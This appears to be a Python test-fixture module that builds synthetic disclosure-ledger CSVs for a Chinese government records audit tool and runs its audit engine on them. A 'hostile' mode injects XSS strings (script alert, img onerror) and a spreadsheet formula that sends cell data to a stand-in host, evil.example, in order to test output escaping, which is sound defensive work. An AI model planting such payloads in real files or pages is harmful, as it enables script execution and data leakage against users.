"""Small ledgers in the built-in rulebook's format, audited by the real engine.

The report, export and browser tests share them. ``write_ledgers`` writes a 公文台账 and an
依申请公开登记台账 as CSV files (headers are the rulebook's first aliases, dates typed the
ways people type them) and ``audited`` runs ``disclosure_rules.audit`` on them with a few
waivers. The rows are built so that every kind of thing the report and the exports show
occurs: violations of several rules spread over divisions (one rule with more than
``MAX_ROWS_PER_RULE``), set and category values, replies on time, late and overdue,
unreadable dates, an unknown label, a waived finding and an expired waiver (a warning).
With ``hostile=True`` markup and a spreadsheet formula go into the text cells that reach
the outputs: keys, titles, a division name, reasons, the unknown label, a waiver.

``example_audit`` is the audit ``disclosure-rules demo`` runs: the bundled examples and
their waivers. Nothing here computes what the engine computes; tests read counts from the
result.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pandas as pd

from disclosure_rules import audit, load_rulebook
from disclosure_rules.demo import DEMO_AS_OF, example_data
from disclosure_rules.resources import examples_dir

AS_OF = "2021-12-31"
BOOK = load_rulebook("builtin:shanxi-commerce-2021")

HOSTILE = {
    "script": "<script>alert('x')</script>",
    "onerror": '"><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "division": "<b>处</b>",
}
DIVISIONS = ["办公室", "外贸处", "外资处", "流通处", "条法处"]
BAD_DATES = range(7, 37)  # positions of the documents whose 成文日期 is impossible (rows 9..38)
UNKNOWN_LABEL_AT = 3      # position of the document whose 公开属性 is not a label of the rulebook
DISCLOSURE = ["主动公开", "主动公开", "主动公开", "主动公开", "主动公开", "依申请公开", "不予公开", ""]


def _typed(day: dt.date, style: int) -> str:
    """A date as people type it in a ledger."""
    return [day.isoformat(), f"{day.year}/{day.month}/{day.day}", f"{day.year}年{day.month}月{day.day}日"][style % 3]


def documents(n_docs: int = 160, hostile: bool = False) -> pd.DataFrame:
    """公文台账: one document a row, with the columns the DOC-* rules read (not all of them)."""
    divisions = DIVISIONS[:-1] + [HOSTILE["division"] if hostile else DIVISIONS[-1]]
    rows = []
    for i in range(n_docs):
        issued = dt.date(2021, 3, 1) + dt.timedelta(days=i % 200)
        disclosure = DISCLOSURE[i % len(DISCLOSURE)]
        active = disclosure == "主动公开"
        doc_type = "其他文件" if i % 5 == 4 else ("政策性文件" if i % 2 else "行政规范性文件")
        interpreted = active and doc_type != "其他文件"
        basis = reason = rereviewed = review = ""
        if not active and disclosure:
            basis = ["《政府信息公开条例》第十六条第一款", "内部文件", ""][i % 3]
            if hostile and i % 3 == 1:
                basis = HOSTILE["onerror"]
            reason = "" if i % 3 == 2 else (HOSTILE["script"] if hostile else "属于内部事务信息")
            rereviewed, review = ("", "") if i % 4 == 1 else ("2021-11-15", "维持原属性")
        published = ""
        if active:
            delay = 40 if i % 9 == 0 else 5  # a few published late, one in 13 never
            published = "" if i % 13 == 0 else (issued + dt.timedelta(days=delay)).isoformat()
        forms = channels = interpreted_on = ""
        if interpreted:
            forms = ["文字", "文字、图解", "文字", "文字、视频", "文字", "", "文字、问答"][i % 7]
            channels = "厅网站、微信公众号" if i % 8 == 0 else "厅网站"
            # an interpretation with forms but no date: DOC-INTERP-01 lists it with its forms
            interpreted_on = "" if i % 6 == 1 else (issued + dt.timedelta(days=3)).isoformat()
        rows.append({
            "文号": f"晋商函〔2021〕{i + 1}号",
            "文件标题": HOSTILE["script"] if hostile and i % 10 == 0 else "关于开展商务领域专项检查的通知",
            "起草处室": divisions[i % len(divisions)],
            "文件类型": doc_type,
            "成文日期": "2021-13-01" if i in BAD_DATES else _typed(issued, i),
            "公开属性": disclosure,
            "不公开依据": basis,
            "不公开理由": reason,
            "复核日期": rereviewed,
            "复核结论": review,
            "公开日期": published,
            "解读日期": interpreted_on,
            "解读形式": forms,
            "解读渠道": channels,
        })
    frame = pd.DataFrame(rows)
    frame.loc[UNKNOWN_LABEL_AT, "公开属性"] = HOSTILE["script"] if hostile else "待定"
    if hostile:
        frame.loc[0, "文号"] = HOSTILE["formula"]
    return frame


def requests(hostile: bool = False) -> pd.DataFrame:
    """依申请公开登记台账: replies on time, late by a little and by a lot, overdue and pending."""
    rows = []
    for i in range(40):
        received = dt.date(2021, 9, 1) + dt.timedelta(days=2 * i)
        if i >= 38:
            received = dt.date(2021, 12, 20)  # still open, not yet due
        answered = min(received + dt.timedelta(days={0: 10, 1: 29, 2: 45}.get(i % 10, 12)), dt.date(2021, 12, 31))
        replied = "" if i in (33, 34, 35, 38, 39) else answered.isoformat()
        withheld = i % 5 == 0
        rows.append({
            "申请编号": f"YSQ-2021-{i + 1:03d}",
            "收到申请日期": _typed(received, i),
            "申请方式": "网络",
            "申请人": f"申请人{i + 1}",
            # four applicants ask for a document that stays 依申请公开 (DOC-CONVERT-01)
            "涉及文号": "晋商函〔2021〕6号" if 20 <= i < 24 else "",
            "申请人情况": "自然人",
            "申请内容": "申请公开商务领域专项资金分配结果",
            "承办处室": DIVISIONS[i % 4],
            "登记日期": "" if i % 11 == 3 else received.isoformat(),
            "征求意见日期": "",
            "意见反馈日期": "",
            "收到补正日期": "",
            "是否延期": "否",
            "答复日期": replied,
            "答复形式": "书面" if i % 8 else "电话",
            "办理结果": ("不予公开-属于三类内部事务信息" if withheld else "予以公开") if replied else "",
            "不予公开理由": (HOSTILE["onerror"] if hostile else "属于内部事务信息") if withheld and i % 10 else "",
        })
    frame = pd.DataFrame(rows)
    frame.loc[17, "申请编号"] = frame.loc[16, "申请编号"]  # a number used twice
    if hostile:
        frame.loc[12, "申请编号"] = HOSTILE["onerror"]  # a late reply
    return frame


def waivers(hostile: bool = False) -> list[dict]:
    """One waiver in force (a late reply) and one expired before the as-of date (a warning)."""
    return [
        {"rule": "REQ-DEADLINE-01", "key": "YSQ-2021-003", "approved_by": "办公室主任", "expires": "2022-06-30",
         "reason": HOSTILE["script"] if hostile else "申请人书面同意延后答复"},
        {"rule": "DOC-TIMELY-01", "key": HOSTILE["onerror"] if hostile else "晋商函〔2021〕10号",
         "reason": "与配套政策同日发布", "expires": "2021-10-31"},
    ]


def write_ledgers(folder: Path, n_docs: int = 160, hostile: bool = False) -> dict[str, Path]:
    """The two ledgers as CSV files in ``folder`` (UTF-8), named as an office names them."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {"documents": folder / "公文台账.csv", "requests": folder / "依申请公开登记台账.csv"}
    documents(n_docs, hostile).to_csv(paths["documents"], index=False, encoding="utf-8")
    requests(hostile).to_csv(paths["requests"], index=False, encoding="utf-8")
    return paths


def gb18030_examples(folder: Path) -> dict[str, Path]:
    """The example documents and requests ledgers (CSV, with their title rows) written to
    ``folder`` in GB18030, as many offices' systems export them."""
    import codecs

    paths = {}
    for name in ("documents", "requests"):
        raw = (examples_dir() / f"{name}.csv").read_bytes()
        try:
            text = raw.decode("utf-8-sig")
        except UnicodeDecodeError:
            text = raw.decode("gb18030")
        paths[name] = folder / f"{name}.csv"
        paths[name].write_bytes(codecs.encode(text, "gb18030"))
    return paths


def audited(folder: Path, n_docs: int = 160, hostile: bool = False):
    """The real audit of the ledgers written to ``folder``."""
    return audit(BOOK, write_ledgers(folder, n_docs, hostile), as_of=AS_OF, waivers=waivers(hostile))


def example_audit():
    """The real audit of the bundled example ledgers and waivers (what `make demo` reports)."""
    return audit(BOOK, example_data(BOOK), as_of=DEMO_AS_OF, waivers=examples_dir() / "waivers.yaml")
